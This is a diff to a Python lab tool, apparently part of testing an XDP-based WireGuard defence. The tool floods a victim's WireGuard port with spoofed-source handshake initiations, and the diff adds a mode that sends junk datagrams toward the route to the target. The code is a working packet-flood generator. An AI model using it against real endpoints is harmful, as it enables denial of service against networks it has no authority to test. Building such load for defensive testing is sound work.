@@ -26,6 +26,7 @@ from __future__ import annotations
 
 import argparse
 import base64
+import contextlib
 import ipaddress
 import json
 import mmap
@@ -100,6 +101,52 @@ def udp_frame(src_mac: bytes, dst_mac: bytes, src: str, sport: int, dst: str, dp
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0x4000, ttl, 17, 0, s, d)
     ip = ip[:10] + struct.pack("!H", _csum(ip)) + ip[12:]
     return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + udp
+
+
+def junk_payloads(n: int = 512, seed: int = 0) -> list[bytes]:
+    """`n` junk datagrams for a WireGuard port: initiation-sized noise (bad MACs),
+    transport-looking messages with random receiver indices and sizes, and pure noise
+    of 1..1400 bytes. XDP drops all of them (size, index or type)."""
+    rnd = np.random.default_rng(seed)
+    out = []
+    for i in range(n):
+        k = i % 4
+        if k == 0:
+            out.append(b"\x01\x00\x00\x00" + rnd.bytes(144))
+        elif k == 1:
+            out.append(b"\x04\x00\x00\x00" + rnd.bytes(int(rnd.integers(28, 1401))))
+        else:
+            out.append(rnd.bytes(int(rnd.integers(1, 1401))))
+    return out
+
+
+def next_hop(dst: str) -> tuple[str, str, bytes, bytes]:
+    """(interface, source address, own MAC, next hop MAC) of the route to `dst` here.
+
+    One datagram to the discard port makes the kernel resolve the neighbour first.
+    """
+    from pyroute2 import IPRoute
+
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.connect((dst, 9))
+        src = s.getsockname()[0]
+        with contextlib.suppress(OSError):
+            s.send(b"")
+    with IPRoute() as ipr:
+        route = ipr.route("get", dst=dst)[0]
+        gw = route.get_attr("RTA_GATEWAY") or dst
+        ifindex = route.get_attr("RTA_OIF")
+        ifname = ipr.get_links(ifindex)[0].get_attr("IFLA_IFNAME")
+        deadline = time.monotonic() + 3.0
+        while True:
+            neigh = [n.get_attr("NDA_LLADDR") for n in ipr.get_neighbours(dst=gw, ifindex=ifindex)
+                     if n.get_attr("NDA_LLADDR")]
+            if neigh and neigh[0] != "00:00:00:00:00:00":
+                break
+            if time.monotonic() > deadline:
+                raise OSError(f"no neighbour entry for {gw} on {ifname}")
+            time.sleep(0.05)
+    return ifname, src, link_mac(ifname), mac_bytes(neigh[0])
 
 
 def spoofed_sources(network: str, count: int) -> list[str]:
@@ -231,29 +278,41 @@ def build_flood_frames(victim_public: bytes, ifname: str, dst_mac: bytes, dst: s
 
 def main(argv: Sequence[str] | None = None) -> int:
     ap = argparse.ArgumentParser(prog="python -m wgx.lab.flood",
-                                 description="Flood a WireGuard port with valid-mac1 "
-                                             "initiations from spoofed sources (lab only).")
-    ap.add_argument("--iface", required=True)
+                                 description="Flood a WireGuard port (lab only): valid-mac1 "
+                                             "initiations from spoofed sources, or --junk.")
     ap.add_argument("--dst", required=True, help="victim IPv4 address")
-    ap.add_argument("--dst-mac", required=True)
     ap.add_argument("--port", type=int, required=True)
-    ap.add_argument("--public-key", required=True, help="victim public key (base64)")
+    ap.add_argument("--junk", action="store_true",
+                    help="junk datagrams from this host's own address, sent towards the "
+                         "route to --dst (interface and MACs found here)")
+    ap.add_argument("--iface", help="initiations: the interface to send on")
+    ap.add_argument("--dst-mac", help="initiations: the victim's (or next hop's) MAC")
+    ap.add_argument("--public-key", help="initiations: victim public key (base64)")
     ap.add_argument("--sources", default="198.19.0.0/16")
     ap.add_argument("--count", type=int, default=1024, help="spoofed source addresses")
     ap.add_argument("--seconds", type=float, default=10.0)
     ap.add_argument("--pps", type=float, default=0.0, help="0: as fast as possible")
     ap.add_argument("--mode", choices=("ring", "sendto"), default="ring")
     args = ap.parse_args(argv)
-    frames = build_flood_frames(base64.b64decode(args.public_key), args.iface,
-                                mac_bytes(args.dst_mac), args.dst, args.port,
-                                spoofed_sources(args.sources, args.count))
+    if args.junk:
+        iface, src, own_mac, hop_mac = next_hop(args.dst)
+        frames = [udp_frame(own_mac, hop_mac, src, 40000 + i % 1000, args.dst, args.port, p)
+                  for i, p in enumerate(junk_payloads())]
+    else:
+        if not (args.iface and args.dst_mac and args.public_key):
+            ap.error("initiations need --iface, --dst-mac and --public-key")
+        iface = args.iface
+        frames = build_flood_frames(base64.b64decode(args.public_key), iface,
+                                    mac_bytes(args.dst_mac), args.dst, args.port,
+                                    spoofed_sources(args.sources, args.count))
     if args.mode == "sendto":
-        res = sendto_loop(frames, args.iface, args.seconds)
+        res = sendto_loop(frames, iface, args.seconds)
     else:
         slots = max(len(frames), 4096)
-        with TxRing(args.iface, frames, slots=slots) as ring:
+        with TxRing(iface, frames, slots=slots) as ring:
             res = ring.run(args.seconds, args.pps or None)
-    res.update({"sources": args.count, "mode": args.mode, "pid": os.getpid()})
+    res.update({"sources": 1 if args.junk else args.count, "mode": args.mode,
+                "pid": os.getpid()})
     print(json.dumps(res), flush=True)
     return 0
 
